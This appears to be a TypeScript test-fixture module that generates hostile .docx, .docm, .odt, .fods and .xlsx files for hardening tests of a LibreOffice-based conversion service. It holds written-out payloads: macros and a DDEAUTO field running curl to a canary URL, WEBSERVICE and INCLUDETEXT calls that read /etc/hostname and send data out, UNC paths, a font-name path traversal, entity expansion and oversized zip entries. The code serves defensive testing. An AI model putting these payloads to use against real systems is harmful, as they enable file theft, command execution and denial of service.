import { strToU8, zipSync, type Zippable, type ZippableFile } from 'fflate';

/**
 * Hostile Word documents of the hardening catalogue (group D), built by the tests that use them (the engine's
 * `word-to-pdf.test.ts` and `packages/server/test/hardening`): documents that try to fetch, read, run or write
 * something while LibreOffice converts them (links, fields, macros, URL schemes, embedded fonts, linked objects),
 * spreadsheets and flat ODF documents carrying the same attacks, which must never reach LibreOffice, an ODF text
 * (which Word to PDF reads) embedding a font, and containers that ask for too much.
 */

const MAIN_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_MAIN_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const NAMESPACES =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
  `xmlns:r="${RELS}" ` +
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';

export type DocxParts = {
  /** The body's inner XML (paragraphs). */
  body: string;
  /** Relationships of `word/document.xml`, as `<Relationship …/>` elements. */
  documentRels?: string;
  /**
   * More parts, by path (text, bytes, or bytes with fflate's options for the entry: `{ level: 0 }` stores it), and
   * `<Override …/>` or `<Default …/>` content-type entries for them.
   */
  parts?: Record<string, string | ZippableFile>;
  contentTypes?: string;
  /** Package relationships besides the main document's. */
  packageRels?: string;
  mainType?: string;
  /** Text before `<w:document>`, such as a DOCTYPE. */
  prolog?: string;
};

/** A minimal WordprocessingML package around `body`. */
export function createDocx({
  body,
  documentRels = '',
  parts = {},
  contentTypes = '',
  packageRels = '',
  mainType = MAIN_TYPE,
  prolog = '',
}: DocxParts): Uint8Array {
  const files: Zippable = {
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/word/document.xml" ContentType="${mainType}"/>${contentTypes}</Types>`,
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${RELS}/officeDocument" Target="word/document.xml"/>${packageRels}` +
        '</Relationships>',
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${prolog}<w:document ${NAMESPACES}><w:body>${body}</w:body></w:document>`,
    ),
    'word/_rels/document.xml.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `${documentRels}</Relationships>`,
    ),
  };
  for (const [path, content] of Object.entries(parts)) {
    files[path] = typeof content === 'string' ? strToU8(content) : content;
  }
  return zipSync(files);
}

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** A field whose stored result is `stored field result`; LibreOffice must show that, never update it. */
function field(instruction: string): string {
  return (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    `<w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r>` +
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>stored field result</w:t></w:r>' +
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
  );
}

function linkedImage(id: string, n: number): string {
  return (
    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="${n}" name="p${n}"/>` +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>' +
    `<pic:nvPicPr><pic:cNvPr id="${n}" name="p${n}"/><pic:cNvPicPr/></pic:nvPicPr>` +
    `<pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm>' +
    '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
  );
}

/**
 * Items 35 and 36: a .docx that tries every way Word has to pull content in: image relationships with
 * `TargetMode="External"` to the canary and to `file:///etc/hostname`, and INCLUDETEXT / INCLUDEPICTURE fields to
 * both. Its own text is `Quire link canary`.
 */
export function createLinkingDocx(canaryUrl: string): Uint8Array {
  const image = `${RELS}/image`;
  return createDocx({
    body:
      paragraph('Quire link canary') +
      linkedImage('rIdHttp', 1) +
      linkedImage('rIdFile', 2) +
      field('INCLUDETEXT "file:///etc/hostname"') +
      field(`INCLUDETEXT "${canaryUrl}/text.txt"`) +
      field(`INCLUDEPICTURE "${canaryUrl}/y.png" \\d`) +
      field('INCLUDEPICTURE "file:///etc/hostname" \\d') +
      `<w:p><w:fldSimple w:instr=' INCLUDETEXT "file:///etc/hostname" '><w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>`,
    documentRels:
      `<Relationship Id="rIdHttp" Type="${image}" Target="${canaryUrl}/x.png" TargetMode="External"/>` +
      `<Relationship Id="rIdFile" Type="${image}" Target="file:///etc/hostname" TargetMode="External"/>`,
  });
}

/**
 * Items 36 and 41: a macro-enabled document (.docm) with every hook that runs or fetches something on opening: a
 * VBA project holding `AutoOpen` and `Document_Open` source, a ribbon `onLoad` callback, an attached template and
 * an altChunk HTML page on the canary, DDEAUTO, LINK and macro-button fields, and a LibreLogo / Python script URL as
 * a hyperlink. Its own text is `Quire macro canary`.
 */
export function createActiveDocm(canaryUrl: string): Uint8Array {
  // Not a valid compound file: whatever LibreOffice makes of it, nothing may run or call out.
  const vbaSource =
    'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "curl ' +
    canaryUrl +
    '/autoopen"\r\nEnd Sub\r\nSub Document_Open()\r\n  Shell "touch /tmp/quire-macro-ran"\r\nEnd Sub\r\n';
  return createDocx({
    mainType: MACRO_MAIN_TYPE,
    body:
      paragraph('Quire macro canary') +
      field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl ${canaryUrl}/dde"`) +
      field(`LINK Excel.Sheet.8 "${canaryUrl}/book.xls" "Sheet1!R1C1" \\a`) +
      field('MACROBUTTON AutoOpen press') +
      `<w:p><w:hyperlink r:id="rIdScript"><w:r><w:t>script link</w:t></w:r></w:hyperlink></w:p>` +
      '<w:altChunk r:id="rIdChunk"/>',
    documentRels:
      `<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>` +
      `<Relationship Id="rIdChunk" Type="${RELS}/aFChunk" Target="chunk.html"/>` +
      `<Relationship Id="rIdScript" Type="${RELS}/hyperlink" Target="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share" TargetMode="External"/>` +
      `<Relationship Id="rIdSettings" Type="${RELS}/settings" Target="settings.xml"/>`,
    parts: {
      'word/vbaProject.bin': strToU8(vbaSource),
      'word/chunk.html': `<html><body><p>chunk</p><img src="${canaryUrl}/chunk.png"><iframe src="file:///etc/hostname"></iframe></body></html>`,
      'word/settings.xml':
        '<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
        `xmlns:r="${RELS}"><w:attachedTemplate r:id="rIdTemplate"/></w:settings>`,
      'word/_rels/settings.xml.rels':
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rIdTemplate" Type="${RELS}/attachedTemplate" Target="${canaryUrl}/template.dotm" TargetMode="External"/>` +
        '</Relationships>',
      'customUI/customUI14.xml': `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>`,
    },
    contentTypes:
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
      '<Default Extension="html" ContentType="text/html"/>' +
      '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
    packageRels: `<Relationship Id="rIdUi" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/>`,
  });
}

/** Item 34: a flat ODF text document (.fodt) linking an image on the canary and a local file. */
export function createFlatOdt(canaryUrl: string): Uint8Array {
  return strToU8(
    '<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
      'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">' +
      '<office:body><office:text><text:p>flat odt</text:p><text:p><draw:frame svg:width="2cm" svg:height="2cm" ' +
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0">' +
      `<draw:image xlink:href="${canaryUrl}/odt.png" xlink:type="simple"/></draw:frame>` +
      '<draw:frame><draw:image xlink:href="file:///etc/hostname"/></draw:frame></text:p></office:text></office:body></office:document>',
  );
}

/** Item 43: entity expansion ("billion laughs") in the main part. */
export function createEntityExpansionDocx(): Uint8Array {
  const levels = ['<!ENTITY l0 "lol">'];
  for (let level = 1; level <= 9; level += 1) {
    levels.push(`<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`);
  }
  return createDocx({
    prolog: `<!DOCTYPE w:document [${levels.join('')}]>`,
    body: paragraph('&l9;'),
  });
}

/** Item 43: `depth` nested content controls around one paragraph. */
export function createDeepDocx(depth = 100_000): Uint8Array {
  return createDocx({
    body: `${'<w:sdt><w:sdtContent>'.repeat(depth)}${paragraph('deep')}${'</w:sdtContent></w:sdt>'.repeat(depth)}`,
  });
}

/**
 * Item 43: a valid .docx followed by `count` empty entries. fflate writes no zip64 records: past 65,535 entries in
 * all, the end record's 16-bit count wraps (70,000 extra entries say 4,468).
 */
export function createManyEntriesDocx(count = 100_000): Uint8Array {
  const extra: Record<string, ZippableFile> = {};
  // Stored, not deflated: a deflate stream per empty entry took 3.5 times as long to zip (20,000 entries: 1.5 CPU-s).
  const empty: ZippableFile = [new Uint8Array(0), { level: 0 }];
  for (let index = 0; index < count; index += 1) extra[`x/${index}`] = empty;
  return createDocx({ body: paragraph('many entries'), parts: extra });
}

/**
 * Item 43: a valid .docx whose central directory says `word/document.xml` unpacks to `declaredBytes`: by default
 * 4 GiB − 1, the most a zip size field holds without zip64.
 */
export function createHugeDeclaredPartDocx(declaredBytes = 0xffff_ffff): Uint8Array {
  const zip = Buffer.from(createDocx({ body: paragraph('declared huge') }));
  const name = Buffer.from('word/document.xml');
  for (let at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); at >= 0;) {
    const nameLength = zip.readUInt16LE(at + 28);
    if (zip.subarray(at + 46, at + 46 + nameLength).equals(name)) zip.writeUInt32LE(declaredBytes, at + 24);
    const next = at + 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
    at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), next);
  }
  return zip;
}

/** Item 44: a spreadsheet package (.xlsx) to be sent under a .docx name. */
export function createXlsx(): Uint8Array {
  return zipSync({
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    ),
  });
}

/** Item 44: a flat WordprocessingML (Word 2003 XML) document, to be sent under a .docx name. */
export function createFlatWordXml(): Uint8Array {
  return strToU8(
    '<?xml version="1.0" encoding="UTF-8"?><?mso-application progid="Word.Document"?>' +
      '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml">' +
      '<pkg:xmlData><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
      '<w:p><w:r><w:t>flat</w:t></w:r></w:p></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>',
  );
}

const SPREADSHEET_MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/**
 * Item 37: a flat ODF spreadsheet (.fods) whose formulas call WEBSERVICE on `file:///etc/hostname` and on the
 * canary with a cell's text appended, with no cached results, so that opening it would have to calculate them.
 */
export function createWebserviceFods(canaryUrl: string): Uint8Array {
  const formulaCell = (formula: string) =>
    `<table:table-cell table:formula="of:=${formula}" office:value-type="string" office:string-value=""/>`;
  return strToU8(
    '<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ' +
      'office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">' +
      '<office:body><office:spreadsheet><table:table table:name="Sheet1"><table:table-row>' +
      '<table:table-cell office:value-type="string"><text:p>exfiltrated</text:p></table:table-cell>' +
      formulaCell('WEBSERVICE(&quot;file:///etc/hostname&quot;)') +
      formulaCell(`WEBSERVICE(&quot;${canaryUrl}/?&quot;&amp;[.A1])`) +
      '</table:table-row></table:table></office:spreadsheet></office:body></office:document>',
  );
}

/**
 * Item 37: the same formulas in a spreadsheet package (.xlsx), cached values empty and a full calculation asked
 * for on load.
 */
export function createWebserviceXlsx(canaryUrl: string): Uint8Array {
  const formulaCell = (ref: string, formula: string) => `<c r="${ref}" t="str"><f>${formula}</f><v></v></c>`;
  return zipSync({
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${SPREADSHEET_MAIN}" xmlns:r="${RELS}">` +
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><calcPr fullCalcOnLoad="1"/></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rId1" Type="${RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${SPREADSHEET_MAIN}"><sheetData><row r="1">` +
        '<c r="A1" t="inlineStr"><is><t>exfiltrated</t></is></c>' +
        formulaCell('B1', '_xlfn.WEBSERVICE("file:///etc/hostname")') +
        formulaCell('C1', `_xlfn.WEBSERVICE("${canaryUrl}/?"&amp;A1)`) +
        '</row></sheetData></worksheet>',
    ),
  });
}

/** Escapes text for an XML attribute value. */
const attribute = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

/** A relationship of `word/document.xml` to something outside the package. */
const externalRel = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${RELS}/${type}" Target="${attribute(target)}" TargetMode="External"/>`;

/** A .docx with its own text, then one image linked (never embedded) from each of `images`, then `links`. */
function linkingDocx(
  ownText: string,
  images: readonly string[],
  links: ReadonlyArray<readonly [target: string, text: string]> = [],
): Uint8Array {
  return createDocx({
    body:
      paragraph(ownText) +
      images.map((_, index) => linkedImage(`rIdImage${index}`, index + 1)).join('') +
      links
        .map(
          ([, text], index) =>
            `<w:p><w:hyperlink r:id="rIdLink${index}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`,
        )
        .join(''),
    documentRels:
      images.map((target, index) => externalRel(`rIdImage${index}`, 'image', target)).join('') +
      links.map(([target], index) => externalRel(`rIdLink${index}`, 'hyperlink', target)).join(''),
  });
}

/**
 * An image every LibreOffice installation has, readable inside the sandbox: a document that managed to load a
 * linked image would show it, so its absence from the PDF shows that links are not followed.
 */
export const LOCAL_IMAGE = '/usr/lib/libreoffice/program/intro.png';

/**
 * Item 38: a .docx whose image relationships point at UNC and SMB-style targets: a share on a private network
 * address, a Windows share, `\\localhost/etc/passwd` and `\\localhost` before a readable image
 * ({@link LOCAL_IMAGE}), and a `file://` URL naming the canary's port on loopback. Its own text is
 * `Quire UNC canary`.
 */
export function createUncLinkDocx(canaryPort: number): Uint8Array {
  return linkingDocx('Quire UNC canary', [
    'file://10.0.0.5/share/x.png',
    '\\\\host\\share\\x.png',
    '\\\\localhost/etc/passwd',
    `\\\\localhost${LOCAL_IMAGE}`,
    `file://127.0.0.1:${canaryPort}/x.png`,
  ]);
}

/**
 * Item 39: a .docx with images at `vnd.sun.star.expand:` URLs (an environment variable, a bootstrap variable,
 * LibreOffice's own folder before the name of an image it holds, and an environment variable appended to the
 * canary's address) and hyperlinks to a UNO command, a Basic macro and an expanded URL. Its own text is
 * `Quire scheme canary`.
 */
export function createSchemeLinkDocx(canaryUrl: string): Uint8Array {
  return linkingDocx(
    'Quire scheme canary',
    [
      'vnd.sun.star.expand:$HOME/x.png',
      'vnd.sun.star.expand:${SYSUSERCONFIG}/x.png',
      'vnd.sun.star.expand:$BRAND_BASE_DIR/program/intro.png',
      `vnd.sun.star.expand:${canaryUrl}/$HOME`,
    ],
    [
      ['vnd.libreoffice.command:.uno:Quit', 'command link'],
      ['macro:///Standard.Module1.Main', 'macro link'],
      ['vnd.sun.star.expand:${SYSUSERCONFIG}', 'expand link'],
    ],
  );
}

/** The name every item 40 document gives its embedded font: a path out of LibreOffice's font folder. */
export const TRAVERSING_FONT_NAME = '../../../../pwn';

/**
 * Item 40: a zipped ODF text document (.odt) embedding a font whose family name is `../../../../pwn`, used by its
 * only paragraph, `Quire font canary`.
 */
export function createFontTraversalOdt(fontBytes: Uint8Array = strToU8('not really a font')): Uint8Array {
  const office = 'urn:oasis:names:tc:opendocument:xmlns';
  return zipSync({
    // The media type comes first and uncompressed, as ODF requires.
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'META-INF/manifest.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="${office}:manifest:1.0" manifest:version="1.3">` +
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>' +
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>' +
        '<manifest:file-entry manifest:full-path="Fonts/pwn.ttf" manifest:media-type="application/x-font-ttf"/>' +
        '</manifest:manifest>',
    ),
    'content.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="${office}:office:1.0" ` +
        `xmlns:style="${office}:style:1.0" xmlns:text="${office}:text:1.0" xmlns:fo="${office}:xsl-fo-compatible:1.0" ` +
        `xmlns:svg="${office}:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">` +
        `<office:font-face-decls><style:font-face style:name="${TRAVERSING_FONT_NAME}" svg:font-family="${TRAVERSING_FONT_NAME}">` +
        '<svg:font-face-src><svg:font-face-uri xlink:href="Fonts/pwn.ttf" xlink:type="simple">' +
        '<svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face>' +
        '</office:font-face-decls><office:automatic-styles><style:style style:name="P1" style:family="paragraph">' +
        `<style:text-properties style:font-name="${TRAVERSING_FONT_NAME}"/></style:style></office:automatic-styles>` +
        '<office:body><office:text><text:p text:style-name="P1">Quire font canary</text:p></office:text></office:body>' +
        '</office:document-content>',
    ),
    'Fonts/pwn.ttf': fontBytes,
  });
}

/** The GUID Word would generate to obfuscate an embedded font; any GUID does. */
const FONT_KEY = '{8D4B5C6A-1E2F-4A3B-9C8D-7E6F5A4B3C2D}';

/**
 * Obfuscates a font as Word embeds it (an .odttf part): its first 32 bytes XORed with the key's 16 bytes, read
 * from the GUID's last hex pair to its first, twice over.
 */
function obfuscateFont(font: Uint8Array, guid: string): Uint8Array {
  const hex = guid.replace(/[^0-9a-f]/gi, '');
  const key = Array.from({ length: 16 }, (_, index) =>
    Number.parseInt(hex.slice(30 - 2 * index, 32 - 2 * index), 16),
  );
  const obfuscated = Uint8Array.from(font);
  for (let index = 0; index < Math.min(32, obfuscated.length); index += 1) {
    obfuscated[index] = (obfuscated[index] ?? 0) ^ (key[index % 16] ?? 0);
  }
  return obfuscated;
}

/**
 * Item 40: a .docx embedding a font (`word/fonts/font1.odttf`, obfuscated as Word does) whose name in
 * `word/fontTable.xml` is `../../../../pwn`, with its own text `Quire font canary` set in that font. Its settings
 * ask for fonts to be embedded again on saving (`w:embedTrueTypeFonts`), as Word's do when the option is on.
 */
export function createFontTraversalDocx(fontBytes: Uint8Array = strToU8('not really a font')): Uint8Array {
  const wordNamespaces = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${RELS}"`;
  return createDocx({
    body:
      `<w:p><w:r><w:rPr><w:rFonts w:ascii="${TRAVERSING_FONT_NAME}" w:hAnsi="${TRAVERSING_FONT_NAME}"/></w:rPr>` +
      '<w:t>Quire font canary</w:t></w:r></w:p>',
    documentRels:
      `<Relationship Id="rIdFonts" Type="${RELS}/fontTable" Target="fontTable.xml"/>` +
      `<Relationship Id="rIdSettings" Type="${RELS}/settings" Target="settings.xml"/>`,
    parts: {
      'word/fontTable.xml':
        `<?xml version="1.0" encoding="UTF-8"?><w:fonts ${wordNamespaces}><w:font w:name="${TRAVERSING_FONT_NAME}">` +
        '<w:charset w:val="00"/><w:family w:val="swiss"/><w:pitch w:val="variable"/>' +
        `<w:embedRegular r:id="rIdFont1" w:fontKey="${FONT_KEY}"/></w:font></w:fonts>`,
      'word/_rels/fontTable.xml.rels':
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `<Relationship Id="rIdFont1" Type="${RELS}/font" Target="fonts/font1.odttf"/></Relationships>`,
      'word/fonts/font1.odttf': obfuscateFont(fontBytes, FONT_KEY),
      'word/settings.xml': `<?xml version="1.0" encoding="UTF-8"?><w:settings ${wordNamespaces}><w:embedTrueTypeFonts/></w:settings>`,
    },
    contentTypes:
      '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>' +
      '<Override PartName="/word/fontTable.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml"/>' +
      '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
  });
}

/** A linked OLE object (VML shape, preview image, `o:OLEObject Type="Link"`) with its own relationship ids. */
function linkedOleObject(previewId: string, objectId: string, n: number): string {
  return (
    '<w:p><w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" ' +
    'w:dxaOrig="1440" w:dyaOrig="1440">' +
    `<v:shape id="_x0000_i10${n}" type="#_x0000_t75" style="width:72pt;height:72pt" o:ole="">` +
    `<v:imagedata r:id="${previewId}" o:title=""/></v:shape>` +
    `<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i10${n}" DrawAspect="Content" ` +
    `r:id="${objectId}" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType>` +
    '<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>'
  );
}

/**
 * Item 42: a .docx with linked OLE objects (`Type="Link"`, updated always) to `file:///etc/hostname`, to a
 * workbook on the canary and to {@link LOCAL_IMAGE}, whose preview images are themselves linked: to
 * `file:///etc/hostname`, to the canary and to that readable image. Its own text is `Quire OLE canary`.
 */
export function createLinkedOleDocx(canaryUrl: string): Uint8Array {
  return createDocx({
    body:
      paragraph('Quire OLE canary') +
      linkedOleObject('rIdPreview1', 'rIdObject1', 1) +
      linkedOleObject('rIdPreview2', 'rIdObject2', 2) +
      linkedOleObject('rIdPreview3', 'rIdObject3', 3),
    documentRels:
      externalRel('rIdObject1', 'oleObject', 'file:///etc/hostname') +
      externalRel('rIdPreview1', 'image', 'file:///etc/hostname') +
      externalRel('rIdObject2', 'oleObject', `${canaryUrl}/book.xlsx`) +
      externalRel('rIdPreview2', 'image', `${canaryUrl}/preview.emf`) +
      externalRel('rIdObject3', 'oleObject', `file://${LOCAL_IMAGE}`) +
      externalRel('rIdPreview3', 'image', `file://${LOCAL_IMAGE}`),
  });
}

/**
 * Item 42: a flat ODF text document (.fodt) with a floating frame showing a page on the canary and a linked
 * object reading `file:///etc/hostname`.
 */
export function createFloatingFrameOdt(canaryUrl: string): Uint8Array {
  return strToU8(
    '<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
      'office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">' +
      '<office:body><office:text><text:p>floating frame</text:p><text:p>' +
      '<draw:frame svg:width="10cm" svg:height="5cm">' +
      `<draw:floating-frame xlink:href="${canaryUrl}/frame.html" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>` +
      '</draw:frame><draw:frame svg:width="10cm" svg:height="5cm">' +
      '<draw:object xlink:href="file:///etc/hostname" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>' +
      '</draw:frame></text:p></office:text></office:body></office:document>',
  );
}
